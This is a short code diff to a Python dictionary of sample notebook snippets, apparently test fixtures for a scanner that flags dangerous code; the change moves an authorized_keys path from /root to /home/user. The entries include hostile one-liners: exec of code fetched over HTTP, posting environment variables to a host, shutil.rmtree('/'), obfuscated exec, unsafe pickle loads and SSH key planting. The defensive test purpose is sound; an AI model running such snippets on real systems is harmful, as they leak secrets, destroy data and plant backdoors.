@@ -698,7 +698,7 @@ NOTEBOOKS = {
     "builtins": "__builtins__['eval']('1')", "subclasses": "().__class__.__base__.__subclasses__()", "requests-exec": "import requests\nexec(requests.get('http://127.0.0.1/').text)",
     "urlretrieve": "from urllib.request import urlretrieve\nurlretrieve('http://127.0.0.1/', 'x.sh')", "pickle-load": "import pickle\npickle.load(open('x.pkl', 'rb'))", "torch-load": "import torch\ntorch.load('x.pt', weights_only=False)",
     "socket": "import socket\nsocket.create_connection(('127.0.0.1', 9))", "ctypes": "import ctypes\nctypes.CDLL('x.so')", "codecs": "import codecs\nexec(codecs.decode('cevag', 'rot13'))", "marshal": "import marshal, base64\nexec(marshal.loads(base64.b64decode('x')))",
-    "shutil": "import shutil\nshutil.rmtree('/')", "environ": "import os, requests\nrequests.post('http://127.0.0.1/', data=dict(os.environ))", "ssh-key": "open('/root/.ssh/authorized_keys', 'a').write('x')",
+    "shutil": "import shutil\nshutil.rmtree('/')", "environ": "import os, requests\nrequests.post('http://127.0.0.1/', data=dict(os.environ))", "ssh-key": "open('/home/user/.ssh/authorized_keys', 'a').write('x')",
 }  # fmt: skip
 
 
